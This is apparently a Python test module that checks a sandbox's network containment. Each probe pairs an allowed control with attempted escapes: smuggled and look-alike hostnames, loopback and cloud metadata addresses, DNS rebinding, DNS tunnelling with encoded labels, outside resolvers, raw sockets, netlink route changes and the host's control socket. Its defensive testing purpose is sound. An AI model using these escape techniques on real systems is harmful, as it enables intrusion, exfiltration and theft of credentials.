"""Ways out: names, addresses, ports, datagrams, DNS, the network itself (NAME, NET)."""

from __future__ import annotations

import os
import socket
import struct

from cloister.verify.inside.talk import (
    CONFIG,
    WAIT_S,
    Probe,
    RefusedError,
    asked,
    closing,
    connected,
    dial,
    fetch,
    get,
    name,
    probe,
    resolve,
    secured,
    tunnel,
    unix,
)


@probe("NAME-1")
def odd_names(found: Probe) -> None:
    host = name("open")
    found.control("CONNECT to the granted name", lambda: tunnel(f"{host}:443").close())
    for odd in (
        f"{host}\x01",
        f"{host}%00.{name('evil')}",
        f"a..{host}",
        "",
        "x" * 254,
        f"{name('evil')}\x00.{host}",
    ):
        found.attack(f"CONNECT to {odd[:40]!r}", closing, tunnel, f"{odd}:443")


@probe("NAME-2")
def look_alikes(found: Probe) -> None:
    host = name("open")
    found.control("the granted name is answered", lambda: resolve(host))
    for other in (
        f"x{host}", f"{host}.{name('evil')}", f"sub.{host}", host.replace("open", "0pen"),
        host.partition(".")[2], "xn--pen-5cd." + host.partition(".")[2],
    ):  # fmt: skip
        found.attack(f"DNS: {other}", resolve, other)
        found.attack(f"CONNECT: {other}", closing, tunnel, f"{other}:443")


@probe("NAME-3")
def addresses_as_names(found: Probe) -> None:
    port = CONFIG["tcp_port"]
    found.control("CONNECT to the granted name", lambda: tunnel(f"{name('open')}:443").close())
    for text in (
        "127.0.0.1", "2130706433", "0x7f000001", "0177.0.0.1", "127.1", "0.0.0.0", "[::1]", "[::]",
        "[::ffff:127.0.0.1]", "[64:ff9b::7f00:1]", "[2002:7f00:1::]", "localhost",
    ):  # fmt: skip

        def through(text: str = text) -> str:
            with tunnel(f"{text}:{port}") as stream:
                stream.sendall(b"attack-NAME-3")
                return "accepted"

        found.attack(f"CONNECT {text}:{port}", through)


@probe("NAME-4")
def metadata(found: Probe) -> None:
    found.control("CONNECT to the granted name", lambda: tunnel(f"{name('open')}:443").close())
    for text in (
        "169.254.169.254", "[fd00:ec2::254]", "metadata.google.internal", "100.100.100.200", "169.254.170.2",
        "192.0.0.192", "metadata.azure.internal",
    ):  # fmt: skip
        found.attack(f"CONNECT {text}:80", closing, tunnel, f"{text}:80")

    def direct() -> str:
        with dial("169.254.169.254", 80) as stream:
            return asked(stream, get("/latest/meta-data/attack-NAME-4", "169.254.169.254"))

    found.attack("HTTP to 169.254.169.254", direct)


@probe("NAME-5")
def names_of_private_addresses(found: Probe) -> None:
    port = CONFIG["origin_port"]

    def reached(which: str, path: str) -> str:
        host = name(which)
        with secured(tunnel(f"{host}:{port}"), host) as stream:
            return asked(stream, get(path, f"{host}:{port}"))

    if CONFIG["gateway_apart"]:
        found.note(
            "names with allowed addresses: the gateway's network is a container's, without such an address"
        )
        found.control("a name with a fixed address", lambda: fetch(name("open"), "/control-NAME-5"))
    else:
        found.control("a name whose address its rule allows", reached, "rebound", "/control-NAME-5")
        found.attack("the same name, which now has another", reached, "rebound", "/attack-NAME-5-rebound")
    found.attack("a name of an allowed and a private one", reached, "mixed", "/attack-NAME-5-mixed")
    for number in range(CONFIG["private_answers"]):
        found.attack(
            f"a name of a private or metadata address, {number + 1}",
            reached,
            "private",
            "/attack-NAME-5-private",
        )


# Egress.


@probe("NET-1")
def around_the_policy(found: Probe) -> None:
    host, evil = name("open"), name("evil")
    found.control("a granted name, directly", lambda: fetch(host, "/control-NET-1-direct"))

    def by_proxy() -> str:
        with secured(tunnel(f"{host}:443"), host) as stream:
            return asked(stream, get("/control-NET-1-proxy", host))

    def evil_by_proxy() -> str:
        with secured(tunnel(f"{evil}:443"), evil) as stream:
            return asked(stream, get("/attack-NET-1-proxy", evil))

    def literal() -> str:
        with secured(dial("203.0.113.8", 443), evil, verify=False) as stream:
            return asked(stream, get("/attack-NET-1-literal", evil))

    found.control("and by way of the proxy", by_proxy)
    found.attack("another name, directly", lambda: fetch(evil, "/attack-NET-1-direct"))
    found.attack("another name, by way of the proxy", evil_by_proxy)
    found.attack("another name, at an address", literal)


def _ports(found: Probe, addresses: list[str], mark: str) -> None:
    ports = (22, 25, 8080, 8443, CONFIG["tcp_port"])
    for address in addresses:
        for port in ports:

            def reach(address: str = address, port: int = port) -> str:
                with dial(address, port) as stream:
                    stream.sendall(f"attack-{mark}".encode())
                    return "connected"

            found.attack(f"TCP {address} port {port}", reach)


@probe("NET-2")
def other_ports(found: Probe) -> None:
    found.control("a granted name on 443", lambda: fetch(name("open"), "/control-NET-2"))
    _ports(found, ["203.0.113.9", "1.1.1.1"], "NET-2")


@probe("NET-3")
def datagrams(found: Probe) -> None:
    port = CONFIG["udp_port"]

    def udp(address: str, number: int) -> str:
        with socket.socket(socket.AF_INET6 if ":" in address else socket.AF_INET, socket.SOCK_DGRAM) as sock:
            sock.settimeout(0.3)
            sock.connect((address, number))
            sock.send(b"attack-NET-3")
            sock.send(b"attack-NET-3")  # the refusal of the first shows here
            return repr(sock.recv(100))

    def loopback() -> str:
        with (
            socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one,
            socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as two,
        ):
            one.bind(("127.0.0.1", 0))
            one.settimeout(WAIT_S)
            two.sendto(b"x", one.getsockname())
            return repr(one.recv(1))

    found.control("a datagram within the sandbox", loopback)
    for address, number in (
        ("127.0.0.1", port),
        ("203.0.113.9", 443),
        ("1.1.1.1", 4433),
        ("203.0.113.9", 123),
    ):
        found.attack(f"UDP {address} port {number}", udp, address, number)
    for kind, protocol, what in (
        (socket.SOCK_RAW, socket.IPPROTO_ICMP, "a raw ICMP socket"),
        (socket.SOCK_RAW, socket.IPPROTO_UDP, "a raw UDP socket"),
        (socket.SOCK_STREAM, 132, "SCTP"),
    ):
        found.attack(what, closing, socket.socket, socket.AF_INET, kind, protocol)


@probe("NET-4")
def dns(found: Probe) -> None:
    host, evil = name("open"), name("evil")
    found.control("the granted name is answered", lambda: resolve(host))
    found.attack("another name", lambda: resolve(evil))
    found.attack("data in labels of a granted name", lambda: resolve(f"c2VjcmV0.{host}"))
    for server in ("8.8.8.8", "1.1.1.1"):
        found.attack(f"{server} over UDP", question, server, evil)
        found.attack(f"{server} over TCP", question_over_tcp, server, evil)
    found.attack("TXT of a granted name", lambda: question("127.0.0.1", host, kind=16))
    found.attack("DNS over TLS", lambda: dial("1.1.1.1", 853).close())


def question(server: str, host: str, kind: int = 1) -> str:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.settimeout(WAIT_S)
        sock.sendto(packet(host, kind), (server, 53))
        return answers(sock.recv(4096))


def question_over_tcp(server: str, host: str) -> str:
    data = packet(host, 1)
    with dial(server, 53) as stream:
        stream.sendall(struct.pack(">H", len(data)) + data)
        return answers(stream.recv(4096)[2:])


def packet(host: str, kind: int) -> bytes:
    labels = b"".join(bytes([len(part)]) + part.encode() for part in host.split("."))
    return b"\x12\x34\x01\0\0\x01\0\0\0\0\0\0" + labels + b"\0" + struct.pack(">HH", kind, 1)


def answers(found: bytes) -> str:
    count = struct.unpack(">H", found[6:8])[0]
    if found[3] & 15 or not count:
        raise RefusedError(f"code {found[3] & 15}, {count} answers")
    return f"{count} answers"


@probe("NET-5")
def version_6(found: Probe) -> None:
    host, evil = name("open"), name("evil")
    if not os.path.exists("/proc/net/if_inet6"):
        found.missing = "the sandbox's network has no IPv6"
        return

    def reached(target: str, path: str) -> str:
        with connected(target, family=socket.AF_INET6) as stream:
            return asked(stream, get(path, target))

    found.control("a granted name over IPv6", lambda: reached(host, "/control-NET-5"))
    found.attack("another name over IPv6", lambda: reached(evil, "/attack-NET-5"))
    _ports(found, ["2001:db8::9", "::1"], "NET-5")


@probe("NET-6")
def change_the_network(found: Probe) -> None:
    def flags() -> str:
        import fcntl

        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
            fcntl.ioctl(sock, 0x8914, struct.pack("16sH14s", b"lo", 0x1 | 0x40, b""))  # SIOCSIFFLAGS
        return "set"

    def message(kind: int, body: bytes) -> str:
        with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as sock:
            sock.settimeout(WAIT_S)
            sock.send(struct.pack("=IHHII", 16 + len(body), kind, 0x5 | 0x600, 1, 0) + body)
            got = sock.recv(4096)
        code = struct.unpack("=i", got[16:20])[0]
        if code:
            raise OSError(-code, os.strerror(-code))
        return "done"

    found.control("the sandbox's interfaces can be listed", socket.if_nameindex)
    found.attack("change the flags of lo", flags)
    route = struct.pack("=BBBBBBBBI", socket.AF_INET, 32, 0, 0, 254, 4, 253, 6, 0)
    target = struct.pack("=HH4s", 8, 1, socket.inet_aton("203.0.113.20"))
    found.attack("add a route", lambda: message(24, route + target))
    link = struct.pack("=BxHiII", 0, 0, 0, 0, 0) + struct.pack("=HH8s", 12, 3, b"verify0\0")
    kind = struct.pack("=HH", 16, 18) + struct.pack("=HH8s", 10, 1, b"dummy\0\0\0")
    found.attack("add a link", lambda: message(16, link + kind))


@probe("NET-7")
def the_host(found: Probe) -> None:
    port = CONFIG["tcp_port"]

    def reach(address: str) -> str:
        with dial(address, port) as stream:
            stream.sendall(b"attack-NET-7")
            return "connected"

    found.control("a granted name on 443", lambda: fetch(name("open"), "/control-NET-7"))
    for address in ("127.0.0.1", "::1", *CONFIG["host_addresses"]):
        found.attack(f"the host's port {port} at {address}", reach, address)
    found.attack(
        "the gateway's control socket", unix, f"{CONFIG['runs']}/{os.environ.get('CLOISTER_SANDBOX')}.sock"
    )
